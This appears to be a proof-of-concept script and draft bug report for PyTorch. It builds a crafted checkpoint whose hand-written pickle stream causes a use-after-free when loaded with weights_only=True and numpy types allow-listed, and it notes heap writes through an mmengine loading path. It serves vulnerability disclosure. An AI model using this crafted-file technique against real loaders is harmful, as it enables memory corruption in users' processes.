"""Minimal reproduction, torch and numpy only: torch's weights-only unpickler with numpy's array allow-listed lets a
file free the memory of a tensor it returns (a use-after-free that the file controls).

Report (ready to file at pytorch/pytorch):

    Title: weights_only=True with np.ndarray allow-listed: a second BUILD of an array frees a tensor's memory

    torch.load(weights_only=True) with numpy's array types allow-listed (`torch.serialization.safe_globals([
    np._core.multiarray._reconstruct, np.ndarray, np.dtype, type(np.dtype('float32'))])`, as torch's own error
    message suggests for files that hold numpy arrays) accepts this stream:

        a = _reconstruct(ndarray, (0,), b'b'); BUILD a with (1, (4096,), float32, False, DATA); PUT a
        t = torch._utils._rebuild_device_tensor_from_numpy(a, torch.float32, 'cpu', False)
        GET a; BUILD a with (1, (1,), float32, False, b'\\0' * 4)

    `_rebuild_device_tensor_from_numpy` is on torch's default allow-list and returns `torch.from_numpy(a)`, a tensor
    that shares the array's buffer. The second BUILD calls `ndarray.__setstate__` on the same object through the
    memo, which replaces and frees that buffer while the tensor still points at it. Reading `t` then returns other
    objects' memory or crashes; writing it (an optimizer step, when mmengine's `load_checkpoint` makes it a
    parameter through a state dict's `_metadata` entry `assign_to_params_buffers=True`) writes the heap.

    Expected: the load is refused (a BUILD on an object already built, or a tensor from an array the file can
    still reach, is not data). Seen with torch 2.13.0 and numpy 2.4.6 on Linux x86-64.

    python benchmarks/repro/torch_numpy_double_build.py   # prints the tensor before and after unrelated allocations

The script exits with 1 when the tensor's values changed without anyone writing to it (the memory was reused).
"""

import io
import struct
import sys
import zipfile

import numpy as np
import torch


def _glob(module: str, name: str) -> bytes:
    return b'c' + f'{module}\n{name}\n'.encode()


def _text(value: str) -> bytes:
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def _int(value: int) -> bytes:
    return b'J' + struct.pack('<i', value)


def _bytes(data: bytes) -> bytes:
    return _glob('_codecs', 'encode') + b'(' + _text(data.decode('latin1')) + _text('latin1') + b'tR'


def _state(count: int, fill: bytes) -> bytes:
    dtype = _glob('numpy', 'dtype') + b'(' + _text('f4') + b'\x89\x88tR'
    dtype += b'(' + _int(3) + _text('<') + b'NNN' + _int(-1) + _int(-1) + _int(0) + b'tb'
    return b'(' + _int(1) + b'(' + _int(count) + b't' + dtype + b'\x89' + _bytes(fill * count) + b't'


def crafted_file() -> bytes:
    """The stream above, as data.pkl of torch's zip format."""
    array = _glob('numpy._core.multiarray', '_reconstruct') + b'(' + _glob('numpy', 'ndarray') + b'(' + _int(0)
    array += b't' + _bytes(b'b') + b'tR' + _state(4096, struct.pack('<f', 7.0)) + b'b' + b'q\x01'
    tensor = _glob('torch._utils', '_rebuild_device_tensor_from_numpy') + b'(' + b'h\x01'
    tensor += _glob('torch', 'float32') + _text('cpu') + b'\x89tR'
    stream = b'\x80\x02](' + array + tensor + b'h\x01' + _state(1, bytes(4)) + b'b' + b'e.'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl', stream)
        archive.writestr('archive/version', b'3\n')
        archive.writestr('archive/byteorder', b'little')
    return buffer.getvalue()


def main() -> int:
    allowed = [np._core.multiarray._reconstruct, np.ndarray, np.dtype, type(np.dtype('float32'))]
    with torch.serialization.safe_globals(allowed):
        array, tensor, _ = torch.load(io.BytesIO(crafted_file()), weights_only=True)
    before = tensor[:8].tolist()
    print(f'torch.load accepted it: array {array.shape}, tensor {tuple(tensor.shape)}; tensor[:8] = {before}')
    filler = [np.full(4096, 3.0, dtype=np.float32) for _ in range(64)]  # unrelated allocations reuse the memory
    after = tensor[:8].tolist()
    print(f'after unrelated allocations, tensor[:8] = {after}')
    changed = before != after
    print('the tensor reads freed memory (use-after-free)' if changed else 'no change seen this time; run again')
    del filler
    return 1 if changed else 0


if __name__ == '__main__':
    sys.exit(main())
